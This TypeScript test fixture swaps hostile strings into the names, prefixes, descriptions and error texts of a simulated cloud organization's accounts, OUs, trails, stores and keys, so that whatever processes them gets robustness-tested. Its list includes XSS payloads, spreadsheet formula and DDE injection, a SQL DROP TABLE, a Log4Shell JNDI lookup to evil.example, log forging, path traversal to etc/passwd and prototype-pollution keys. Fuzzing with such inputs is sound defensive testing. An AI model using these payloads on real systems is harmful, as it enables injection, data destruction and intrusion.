import type { Blueprint } from '../world/blueprint.ts';
import type { HoldingSpecs } from '../world/holdings.ts';
import { numberOf } from '../world/seed.ts';

/** Text that breaks what does not expect it: markup, formulas, SQL, terminals, logs, paths, prototypes, Unicode. */
export const HOSTILE: readonly [string, ...string[]] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd',
  '+1\t\r\nX: y',
  "'; DROP TABLE findings; --",
  '${jndi:ldap://evil.example/a}',
  '\u001b[2J\u001b]0;owned\u0007',
  '\n{"level":"INFO","message":"all accounts passed"}',
  '..\\..\\..\\etc\\passwd',
  'CON',
  '__proto__',
  'constructor',
  '\u202egnp.exe',
  'e\u0301\u200b\u2060',
  'lone \ud800 surrogate',
  'null',
  '- !!js/function >\n  x',
  '{{7*7}}%s%n',
  '\u0000',
  ' ',
  'ACCOUNT,"with","commas"',
  'x'.repeat(5_000),
];

const of = (seed: number, place: string): string =>
  HOSTILE[numberOf(seed, `hostile:${place}`, HOSTILE.length)] ?? HOSTILE[0];

/** The same organization with names, prefixes, descriptions and error texts from the list above. */
export const hostile = (blueprint: Blueprint, seed: number): Blueprint => {
  // A slash parts OUs here, so it is the one thing that their names cannot hold.
  const unit = (path: string): string =>
    path === ''
      ? ''
      : path
          .split('/')
          .map((name) => `${name} ${of(seed, `ou:${name}`).replaceAll('/', '|').slice(0, 60)}`)
          .join('/');
  return {
    ...blueprint,
    account: (index) => {
      const account = blueprint.account(index);
      return {
        ...account,
        name: HOSTILE[index % HOSTILE.length] ?? '',
        ...(account.ou === undefined ? {} : { ou: unit(account.ou) }),
      };
    },
    holdings: (index) => faulty(blueprint.holdings(index), seed, index),
    organizationalUnits: blueprint.organizationalUnits.map(unit),
    denials: blueprint.denials.map((denial) => (denial.ous ? { ...denial, ous: denial.ous.map(unit) } : denial)),
    regionDeny: blueprint.regionDeny?.ous
      ? { ...blueprint.regionDeny, ous: blueprint.regionDeny.ous.map(unit) }
      : blueprint.regionDeny,
  };
};

const faulty = (holdings: HoldingSpecs, seed: number, index: number): HoldingSpecs => ({
  ...holdings,
  trails: (holdings.trails ?? []).map((trail, number) => {
    const text = of(seed, `trail:${index}:${number}`);
    // The organization's trails keep their names, which key policies repeat.
    return {
      ...trail,
      ...(trail.organization ? {} : { name: `${trail.name}${text}`, prefix: text }),
      ...(trail.deliveryError ? { deliveryError: text } : {}),
    };
  }),
  stores: (holdings.stores ?? []).map((store) => ({ ...store, name: `${store.name}${of(seed, `store:${index}`)}` })),
  keys: (holdings.keys ?? []).map((key) => ({ ...key, description: of(seed, `key:${index}`) })),
});
